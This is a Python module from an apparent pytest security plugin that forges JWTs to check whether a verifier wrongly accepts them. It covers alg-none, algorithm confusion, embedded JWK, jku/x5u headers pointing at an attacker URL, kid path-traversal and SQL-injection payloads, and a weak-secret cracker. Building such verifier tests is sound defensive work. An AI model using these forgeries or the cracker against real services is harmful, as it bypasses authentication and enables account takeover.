"""A JWT forger, usable on its own: the tokens a correct verifier must refuse.

Each function takes a captured token (usually a valid one) and returns `Forged` tokens: a
name saying what the attack is, and the token. The forged tokens keep the captured claims
(so a target that does not verify serves the same identity), and are built with `hmac` and
base64url directly: PyJWT refuses, rightly, to build several of them (an `alg` of `None`
or `nOnE`, a PEM or JWK used as an HMAC secret). PyJWT parses and signs the legitimate
cases (an RSA-signed token for the embedded-JWK attack).

    from pytest_prodready import tokens
    for forged in tokens.alg_none(captured):
        ...send forged.token, expect 401...
    tokens.crack(captured, tokens.weak_secrets())   # the secret, or None

Forged tokens are credentials as far as output is concerned: register them with the
masker before they can appear anywhere (the jwt checks do).
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
import time
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from functools import lru_cache
from importlib import resources
from pathlib import Path
from typing import Any

NONE_VARIANTS = ("none", "None", "NONE", "nOnE")
HMAC_ALGS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
# A key no target can know: what "a foreign key" signs with.
FOREIGN_SECRET = b"prodready-foreign-key-not-the-targets-5d1c8e0a9b"
# The kid injections: a path to an empty file (the secret is then b""), and an SQL-style
# value whose injected SELECT returns a string we signed with.
KID_PATH = "../../../../../../../../dev/null"
KID_SQL_SECRET = "prodready"
KID_SQL = f"x' UNION SELECT '{KID_SQL_SECRET}' -- "
ATTACKER_URL = "https://prodready-attacker.invalid/jwks.json"
ONE_DAY = 86_400


class NotAJWT(ValueError):
    """The text is not a compact JWS (three base64url parts with a JSON header)."""


@dataclass(frozen=True)
class Forged:
    """One forged token and what it tries."""

    name: str
    token: str

    def __repr__(self) -> str:  # the token is a credential: never in a repr
        return f"<Forged {self.name}>"


@dataclass(frozen=True)
class Token:
    """A parsed compact JWS: the decoded header and payload, and the raw parts."""

    header: dict[str, Any]
    payload: dict[str, Any]
    parts: tuple[str, str, str]

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))

    @property
    def signing_input(self) -> bytes:
        return f"{self.parts[0]}.{self.parts[1]}".encode("ascii")

    @property
    def signature(self) -> bytes:
        return b64decode(self.parts[2])

    def __repr__(self) -> str:
        return f"<Token alg={self.alg} claims={sorted(self.payload)}>"


# -- encoding -------------------------------------------------------------------------------
def b64encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64decode(text: str) -> bytes:
    try:
        return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
    except (binascii.Error, ValueError) as exc:
        raise NotAJWT(f"not base64url: {exc}") from None


def encode_json(obj: Any) -> str:
    return b64encode(json.dumps(obj, separators=(",", ":")).encode())


def parse(token: str) -> Token:
    """The token's header and payload, without verifying anything."""
    parts = token.strip().split(".")
    if len(parts) != 3 or not parts[0] or not parts[1]:
        raise NotAJWT("a JWT has three dot-separated parts")
    try:
        header = json.loads(b64decode(parts[0]))
        payload = json.loads(b64decode(parts[1]))
    except (ValueError, UnicodeDecodeError) as exc:
        raise NotAJWT(f"the header or payload is not JSON: {exc}") from None
    if not isinstance(header, dict) or not isinstance(payload, dict):
        raise NotAJWT("the header and payload must be JSON objects")
    return Token(header, payload, (parts[0], parts[1], parts[2]))


def is_jwt(token: str | None) -> bool:
    try:
        return token is not None and bool(parse(token).alg)
    except NotAJWT:
        return False


def hs_sign(header: dict[str, Any], payload: dict[str, Any], secret: bytes | str) -> str:
    """A token with this header and payload, HMAC-signed with `secret` (any bytes at all)."""
    alg = str(header.get("alg", "HS256"))
    digest = HMAC_ALGS.get(alg, hashlib.sha256)
    key = secret.encode() if isinstance(secret, str) else secret
    signing_input = f"{encode_json(header)}.{encode_json(payload)}"
    signature = hmac.digest(key, signing_input.encode("ascii"), digest)
    return f"{signing_input}.{b64encode(signature)}"


def unsigned(header: dict[str, Any], payload: dict[str, Any], signature: str = "") -> str:
    return f"{encode_json(header)}.{encode_json(payload)}.{signature}"


def _hs_header(token: Token, **extra: Any) -> dict[str, Any]:
    header = {k: v for k, v in token.header.items() if k not in ("jwk", "jku", "x5u", "x5c")}
    header["alg"] = "HS256"
    header.setdefault("typ", "JWT")
    header.update(extra)
    return header


# -- the attacks ----------------------------------------------------------------------------
def alg_none(token: str) -> list[Forged]:
    """`alg` none in each case variant, with no signature and with the original one kept."""
    parsed = parse(token)
    out = []
    for variant in NONE_VARIANTS:
        header = {**parsed.header, "alg": variant}
        out.append(Forged(f"alg {variant}, no signature", unsigned(header, parsed.payload)))
        out.append(Forged(f"alg {variant}, original signature kept",
                          unsigned(header, parsed.payload, parsed.parts[2])))
    return out


def empty_signature(token: str) -> Forged:
    parsed = parse(token)
    return Forged("empty signature", f"{parsed.parts[0]}.{parsed.parts[1]}.")


def tampered(token: str, **claims: Any) -> Forged:
    """The payload changed (a claim added), the original signature kept."""
    parsed = parse(token)
    payload = {**parsed.payload, **(claims or {"prodready_tampered": True})}
    return Forged("payload tampered under the original signature",
                  f"{parsed.parts[0]}.{encode_json(payload)}.{parsed.parts[2]}")


def foreign_key(token: str) -> Forged:
    parsed = parse(token)
    return Forged("signed with a foreign key", hs_sign(_hs_header(parsed), parsed.payload, FOREIGN_SECRET))


def expired(token: str, secret: bytes | str = FOREIGN_SECRET, *, now: float | None = None) -> Forged:
    """Expired a day ago (issued two days ago). Signed with `secret`: a foreign key unless the
    real secret is known (cracked), so only then does a refusal prove expiry is checked."""
    parsed = parse(token)
    t = int(time.time() if now is None else now)
    payload = {**parsed.payload, "iat": t - 2 * ONE_DAY, "exp": t - ONE_DAY}
    payload.pop("nbf", None)
    return Forged("expired a day ago", hs_sign(_hs_header(parsed), payload, secret))


def not_yet_valid(token: str, secret: bytes | str = FOREIGN_SECRET, *,
                  now: float | None = None) -> list[Forged]:
    """`nbf` a day in the future, and `iat` a day in the future."""
    parsed = parse(token)
    t = int(time.time() if now is None else now)
    base = {k: v for k, v in parsed.payload.items() if k not in ("nbf", "iat")}
    base["exp"] = t + 2 * ONE_DAY
    header = _hs_header(parsed)
    return [Forged("nbf a day in the future", hs_sign(header, {**base, "nbf": t + ONE_DAY}, secret)),
            Forged("iat a day in the future", hs_sign(header, {**base, "iat": t + ONE_DAY}, secret))]


def weak_secret_signed(token: str, secrets: Iterable[str]) -> list[Forged]:
    """The claims re-signed (HS256) with each secret."""
    parsed = parse(token)
    header = _hs_header(parsed)
    return [Forged(f"signed with the weak secret #{i + 1}", hs_sign(header, parsed.payload, s))
            for i, s in enumerate(secrets)]


def public_key_forms(public_key: bytes | str) -> list[tuple[str, bytes]]:
    """The byte forms a confused verifier may use as its HMAC secret: the PEM as given, with
    and without a trailing newline, the other PEM encoding (PKCS#1 for RSA), and the DER."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    raw = public_key.encode() if isinstance(public_key, str) else public_key
    try:
        key = load_public_key(raw)
    except Exception as exc:  # PyJWT's InvalidKeyError, cryptography's errors, KeyError...
        raise ValueError(f"not a public key (PEM, DER, certificate, JWK or JWKS): "
                         f"{type(exc).__name__}: {exc}") from None
    spki = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    forms: dict[bytes, str] = {}
    given = [(raw.strip(), "PEM as given")] if raw.lstrip().startswith(b"-----") else []
    for pem, what in (*given, (spki, "PEM")):
        if pem.startswith(b"-----"):
            forms.setdefault(pem.rstrip(b"\n"), f"{what} without trailing newline")
            forms.setdefault(pem.rstrip(b"\n") + b"\n", f"{what} with trailing newline")
    if isinstance(key, rsa.RSAPublicKey):
        pkcs1 = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
        forms.setdefault(pkcs1, "PKCS#1 PEM")
        forms.setdefault(pkcs1.rstrip(b"\n"), "PKCS#1 PEM without trailing newline")
    der = key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    forms.setdefault(der, "DER")
    return [(what, form) for form, what in forms.items()]


def load_public_key(raw: bytes) -> Any:
    """A public key from PEM (SPKI or PKCS#1), a certificate, DER, or a JWK (JSON)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import serialization

    text = raw.strip()
    if text.startswith(b"{"):
        return jwk_to_key(json.loads(text))
    if b"BEGIN CERTIFICATE" in text:
        return x509.load_pem_x509_certificate(text).public_key()
    if text.startswith(b"-----"):
        return serialization.load_pem_public_key(text)
    return serialization.load_der_public_key(raw)


def jwk_to_key(jwk: dict[str, Any]) -> Any:
    """A public key object from one JWK, or the first RSA/EC key of a JWKS."""
    from jwt.algorithms import ECAlgorithm, RSAAlgorithm

    if "keys" in jwk:
        usable = [k for k in jwk["keys"] if isinstance(k, dict) and k.get("kty") in ("RSA", "EC")]
        if not usable:
            raise ValueError("the JWKS has no RSA or EC key")
        jwk = usable[0]
    if jwk.get("kty") == "RSA":
        return RSAAlgorithm.from_jwk(json.dumps(jwk))
    if jwk.get("kty") == "EC":
        return ECAlgorithm.from_jwk(json.dumps(jwk))
    raise ValueError(f"unsupported JWK kty {jwk.get('kty')!r}")


def alg_confusion(token: str, public_key: bytes | str) -> list[Forged]:
    """The claims signed HS256 with the target's own public key (each byte form) as the
    secret: what a verifier that takes `alg` from the token accepts."""
    parsed = parse(token)
    header = _hs_header(parsed)
    return [Forged(f"HS256 with the public key ({what}) as secret", hs_sign(header, parsed.payload, form))
            for what, form in public_key_forms(public_key)]


@lru_cache(maxsize=1)
def attacker_key() -> Any:
    """An RSA key of our own (made once per process): what the jwk/jku/x5u attacks sign with."""
    from cryptography.hazmat.primitives.asymmetric import rsa

    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def attacker_jwk(kid: str = "prodready-attacker") -> dict[str, Any]:
    from jwt.algorithms import RSAAlgorithm

    jwk = json.loads(RSAAlgorithm.to_jwk(attacker_key().public_key()))
    return {**jwk, "kid": kid, "use": "sig", "alg": "RS256"}


def attacker_jwks() -> dict[str, Any]:
    """The JWKS an attacker serves at its jku/x5u URL."""
    return {"keys": [attacker_jwk()]}


def _rs_signed(parsed: Token, **header: Any) -> str:
    import jwt

    base = {k: v for k, v in parsed.header.items() if k not in ("alg", "jwk", "jku", "x5u", "kid")}
    return jwt.encode(parsed.payload, attacker_key(), algorithm="RS256",
                      headers={**base, "kid": "prodready-attacker", **header})


def embedded_jwk(token: str) -> Forged:
    """Signed with our key, the public half inlined in the `jwk` header (CVE-2018-0114)."""
    return Forged("attacker key embedded in the jwk header",
                  _rs_signed(parse(token), jwk=attacker_jwk()))


def key_url(token: str, url: str = ATTACKER_URL) -> list[Forged]:
    """Signed with our key, `jku` and `x5u` pointing at `url` (where our JWKS is served)."""
    parsed = parse(token)
    return [Forged(f"jku pointing at {url}", _rs_signed(parsed, jku=url)),
            Forged(f"x5u pointing at {url}", _rs_signed(parsed, x5u=url))]


def kid_injections(token: str) -> list[Forged]:
    parsed = parse(token)
    return [Forged("kid path traversal to /dev/null, empty secret",
                   hs_sign(_hs_header(parsed, kid=KID_PATH), parsed.payload, b"")),
            Forged("kid SQL injection returning a known string",
                   hs_sign(_hs_header(parsed, kid=KID_SQL), parsed.payload, KID_SQL_SECRET))]


def bad_signatures(token: str, key_url_target: str = ATTACKER_URL) -> list[Forged]:
    """Every "wrong signature" forgery: tampered, empty, foreign key, jwk, jku/x5u, kid."""
    return [tampered(token), empty_signature(token), foreign_key(token), embedded_jwk(token),
            *key_url(token, key_url_target), *kid_injections(token)]


# -- weak secrets ---------------------------------------------------------------------------
def read_secrets(text: str) -> list[str]:
    """One secret a line; CRLF endings, blank lines and a BOM are not secrets. Comment lines
    ('# ...') are skipped only in our own list (real lists may hold '#' secrets)."""
    seen: dict[str, None] = {}
    for line in text.lstrip("\ufeff").splitlines():
        line = line.rstrip("\r")
        if line:
            seen.setdefault(line, None)
    return list(seen)


@lru_cache(maxsize=1)
def weak_secrets() -> tuple[str, ...]:
    """The built-in list: well-known framework defaults, tutorial and documentation examples."""
    text = resources.files("pytest_prodready").joinpath("weak_secrets.txt").read_text("utf-8")
    return tuple(s for s in read_secrets(text) if not s.startswith("# "))


def load_secrets(path: str | Path) -> list[str]:
    """A secret list from a file (e.g. the ~100k-line public list): latin-1 safe, CRLF ok."""
    data = Path(path).read_bytes()
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError:
        text = data.decode("latin-1")
    return read_secrets(text)


def crack(token: str, secrets: Iterable[str | bytes]) -> str | None:
    """The secret (from `secrets`) the HS-signed token was signed with, or None. Offline:
    nothing is sent. About 600,000 candidates a second on one core."""
    parsed = parse(token)
    digest = HMAC_ALGS.get(parsed.alg)
    if digest is None:
        return None
    try:
        message, signature = parsed.signing_input, parsed.signature
    except (NotAJWT, UnicodeEncodeError):
        return None  # a signature that is not base64url was made with no key at all
    hmac_digest, compare = hmac.digest, hmac.compare_digest
    for secret in secrets:
        key = secret.encode("utf-8", "surrogateescape") if isinstance(secret, str) else secret
        if compare(hmac_digest(key, message, digest), signature):
            return secret if isinstance(secret, str) else secret.decode("latin-1")
    return None


def crack_position(token: str, secrets: Sequence[str]) -> int | None:
    """The 1-based line of the cracked secret in `secrets`, or None (names it without saying it)."""
    found = crack(token, secrets)
    return None if found is None else secrets.index(found) + 1
